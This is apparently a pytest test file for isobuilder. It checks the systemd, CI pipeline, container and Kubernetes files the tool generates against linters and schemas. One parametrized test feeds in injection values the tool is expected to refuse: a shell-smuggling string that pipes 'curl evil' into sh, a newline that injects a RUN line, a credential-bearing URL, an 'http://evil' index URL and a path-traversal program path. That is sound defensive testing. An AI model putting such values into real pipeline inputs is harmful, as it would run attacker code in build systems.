"""What is shipped for those who start isobuilder unattended, read by their own checkers."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from collections.abc import Sequence
from pathlib import Path

import pytest
import yaml

from isobuilder import __version__
from isobuilder.jobs.files import PROGRAM, STYLES
from isobuilder.model.config import load_config
from isobuilder.model.policy import read_policy
from tests.cli.calling import call, errors
from tests.jobs.pages import Shell
from tests.pipeline.test_matrix import Checkout, checkout
from tests.pipeline.world import World
from tools.lab.place import lab_dir

__all__ = ["checkout"]

DOCS = Path(__file__).parents[2] / "docs"
BIN = Path(sys.executable).parent
WHEEL = f"./isobuilder-{__version__}-py3-none-any.whl"


def written(folder: Path, style: str, *words: str) -> list[Path]:
    done = call("upstream", "schedule", "--format", style, "--out", folder, *words)
    return [Path(line) for line in done.stdout.splitlines()]


def says(words: Sequence[str | Path], cwd: Path | None = None) -> tuple[int, str]:
    """Return the exit code of a checker, and all that it printed."""
    done = subprocess.run(words, cwd=cwd, capture_output=True, text=True, check=False)
    return done.returncode, done.stdout + done.stderr


def installed(name: str, package: str) -> str:
    program = shutil.which(name)
    if program is None:
        pytest.skip(f"not installed: {package}")
    return program


# --- systemd ---


def unit_in(folder: Path) -> Path:
    service, _timer, *_ = written(folder, "systemd", "--program", "/bin/true")
    return service


def test_systemd_finds_nothing_wrong_with_the_service_and_the_timer(tmp_path: Path) -> None:
    analyze = installed("systemd-analyze", "systemd")
    service = unit_in(tmp_path)
    timer = service.with_suffix(".timer")
    assert says([analyze, "verify", "--man=no", service, timer]) == (0, "")
    service.write_text(service.read_text().replace("ProtectHome=yes", "ProtectHom=yes"))
    assert "ProtectHom'" in says([analyze, "verify", service])[1]


def test_the_service_is_as_confined_as_one_that_needs_a_network_can_be(tmp_path: Path) -> None:
    analyze = installed("systemd-analyze", "systemd")
    service = unit_in(tmp_path)
    words: list[str | Path] = [analyze, "security", "--offline=true", "--threshold=15", service]
    code, text = says(words)
    assert "--offline" in text or code == 0, text  # an old systemd looks only at running ones
    service.write_text(service.read_text().replace("ProtectSystem=strict\n", ""))
    service.write_text(service.read_text().replace("CapabilityBoundingSet=\n", ""))
    assert says(words)[0] != 0


# --- GitHub ---


def actionlint() -> str:
    program = lab_dir() / "programs/actionlint/actionlint"
    if not program.is_file():
        pytest.skip("actionlint is a part of the lab: make lab")
    return str(program)


@pytest.mark.lab
def test_actionlint_finds_nothing_wrong_with_the_workflow(tmp_path: Path) -> None:
    workflow, _policy = written(tmp_path, "github", "--install", WHEEL)
    assert workflow == tmp_path / ".github/workflows/isobuilder.yml"
    assert says([actionlint(), workflow]) == (0, "")
    workflow.write_text(workflow.read_text().replace("needs.cells.outputs", "needs.cell.outputs"))
    code, text = says([actionlint(), workflow])
    assert code == 1
    assert '"cell"' in text


# --- GitLab ---


def gitlab_says(file: Path) -> tuple[int, str]:
    words = ["--builtin-schema", "vendor.gitlab-ci", "--data-transform", "gitlab-ci", "--no-cache"]
    return says([BIN / "check-jsonschema", *words, file])


def test_gitlabs_schema_accepts_the_pipeline(tmp_path: Path) -> None:
    pipeline, _policy = written(tmp_path, "gitlab", "--install", WHEEL)
    assert gitlab_says(pipeline) == (0, "ok -- validation done\n")
    pipeline.write_text(pipeline.read_text().replace("strategy: depend", "strategy: depends"))
    assert gitlab_says(pipeline)[0] == 1


def test_gitlabs_schema_accepts_the_jobs_of_cells(checkout: Checkout, tmp_path: Path) -> None:
    text = checkout.call("matrix", "--recipes", checkout.recipes, "--format", "gitlab").stdout
    jobs = tmp_path / "jobs.yml"
    jobs.write_text(text)
    assert gitlab_says(jobs) == (0, "ok -- validation done\n")
    jobs.write_text(text.replace("when: always", "when: ever"))
    assert gitlab_says(jobs)[0] == 1


# --- containers ---


@pytest.mark.parametrize("words", [(), ("--install", WHEEL), ("--install", "./wheelhouse/")])
def test_hadolint_finds_nothing_wrong_with_the_container_file(
    tmp_path: Path, words: tuple[str, ...]
) -> None:
    (file,) = written(tmp_path, "containerfile", *words)
    assert says([BIN / "hadolint", file]) == (0, "")
    text = file.read_text()
    assert (f"COPY {WHEEL} /opt/" in text) == (WHEEL in words)
    assert ("source=wheelhouse,target=/wheelhouse" in text) == ("--no-index" in text)
    assert ("--no-index" in text) == ("./wheelhouse/" in words)
    file.write_text(text.replace("${BASE}", "python"))
    assert "DL3006" in says([BIN / "hadolint", file])[1]


# --- all of them ---


@pytest.mark.parametrize("style", STYLES)
def test_nothing_is_left_open_and_every_document_is_read(style: str, tmp_path: Path) -> None:
    for path in written(tmp_path, style):
        text = path.read_text()
        assert "@INSTALL@" not in text
        assert not [word for word in text.split() if word.startswith("@") and word.endswith("@")]
        if path.suffix in {".yml", ".yaml"}:
            assert all(document is not None for document in yaml.safe_load_all(text))


def test_the_policies_and_settings_that_are_written_are_good(tmp_path: Path) -> None:
    for style, publishes in (("systemd", True), ("github", False), ("gitlab", False)):
        (path,) = [one for one in written(tmp_path / style, style) if one.name == "policy.yaml"]
        assert (read_policy(path).publish is not None) == publishes
    config, _origins = load_config(tmp_path / "systemd/isobuilder/config.yaml", {}, {})
    assert config.mirrors == {}
    (manifests,) = written(tmp_path / "kubernetes", "kubernetes")
    (settings,) = [
        one for one in yaml.safe_load_all(manifests.read_text()) if one["kind"] == "ConfigMap"
    ]
    for name, text in settings["data"].items():
        (tmp_path / name).write_text(text)
    publish = read_policy(tmp_path / "policy.yaml").publish
    assert publish is not None
    assert publish.folder == "/var/lib/isobuilder/published"
    load_config(tmp_path / "config.yaml", {}, {})


def test_the_container_has_the_memory_that_the_page_says_deltas_take(tmp_path: Path) -> None:
    said = [
        re.findall(words, (DOCS / page).read_text(encoding="utf-8"))
        for page, words in (
            ("following-upstream.md", r"up to (\d+) GiB of memory"),
            ("ko/following-upstream.md", r"최대 (\d+) GiB의 메모리"),
        )
    ]
    (manifests,) = written(tmp_path, "kubernetes")
    limits = re.findall(r"limits: \{memory: (\d+)Gi\}", manifests.read_text())
    assert said == [limits, limits]
    assert len(limits) == 1
    for page in ("scheduled-builds.md", "ko/scheduled-builds.md"):
        assert "GiB of memory" not in (text := (DOCS / page).read_text(encoding="utf-8"))
        assert "GiB의 메모리" not in text


def test_what_is_written_twice_is_the_same_and_what_was_edited_stays(tmp_path: Path) -> None:
    first = written(tmp_path, "systemd")
    assert f"ExecStart={PROGRAM} upstream sync" in first[0].read_text()
    assert first[0].stat().st_mode & 0o777 == 0o644
    assert written(tmp_path, "systemd") == first
    first[2].write_text("# mine\n")
    first[1].unlink()
    arguments = ("upstream", "schedule", "--format", "systemd", "--out", tmp_path)
    done = call(*arguments, code=2)
    assert errors(done) == [f"error: {first[2]}: there already, and not what would be written"]
    assert not first[1].exists()
    assert first[2].read_text() == "# mine\n"


def test_without_a_folder_the_files_are_printed() -> None:
    out = call("upstream", "schedule", "--format", "systemd").stdout
    assert out.startswith("# systemd/system/isobuilder-sync.service\n# Written by isobuilder ")
    assert "\n# isobuilder/policy.yaml\n" in out
    assert call("upstream", "schedule", "--format", "gitlab").stdout.count("stages:") == 1


@pytest.mark.parametrize(
    ("words", "told"),
    [
        (("github", "--install", "x'; curl evil | sh; '"), "is nothing that a pipeline is told"),
        (("github", "--install", "${{ github.token }}"), "is nothing that a pipeline is told"),
        (("gitlab", "--install", "https://me:secret@host/x.whl"), "is nothing that a pipeline"),
        (("containerfile", "--install", 'x"\nRUN id'), "is nothing that a pipeline is told"),
        (("gitlab", "--install", "--index-url=http://evil x"), "is nothing that a pipeline is"),
        (("kubernetes", "--image", 'x:1"\nkind: Pod'), "--image: "),
        (("kubernetes", "--image", "registry.example/isobuilder"), "no tag or digest in"),
        (("systemd", "--program", "isobuilder"), "is no absolute path of"),
        (("systemd", "--program", "/opt/%h/x y"), "is no absolute path of"),
        (("systemd", "--program", "/opt/../etc/x"), "is no absolute path of"),
    ],
)
def test_values_that_would_mean_something_else_in_a_file_are_refused(
    words: tuple[str, ...], told: str, tmp_path: Path
) -> None:
    done = call("upstream", "schedule", "--out", tmp_path / "x", "--format", *words, code=3)
    assert told in done.stderr
    assert not (tmp_path / "x").exists()


def test_jobs_of_cells_refuse_such_values_too(world: World, checkout: Checkout) -> None:
    words = ("matrix", "--recipes", checkout.recipes, "--format")
    checkout.call(*words, "gitlab", "--install", "x'; id", code=3)
    checkout.call(*words, "kubernetes", "--image", "no tag", code=3)


def test_the_first_recipe_is_made_only_where_there_is_none(tmp_path: Path) -> None:
    text = call("upstream", "schedule", "--format", "kubernetes").stdout
    (cron,) = [one for one in yaml.safe_load_all(text) if one["kind"] == "CronJob"]
    (begin,) = cron["spec"]["jobTemplate"]["spec"]["template"]["spec"]["initContainers"]
    shell = Shell(tmp_path / "volume", {"PATH": f"{BIN}:{os.environ['PATH']}"})
    shell.folder.mkdir()
    shell.type(begin["command"][2])
    (made,) = (shell.folder / "recipes").iterdir()
    made.rename(made.with_name("mine.yaml"))
    shell.type(begin["command"][2])
    assert [path.name for path in (shell.folder / "recipes").iterdir()] == ["mine.yaml"]
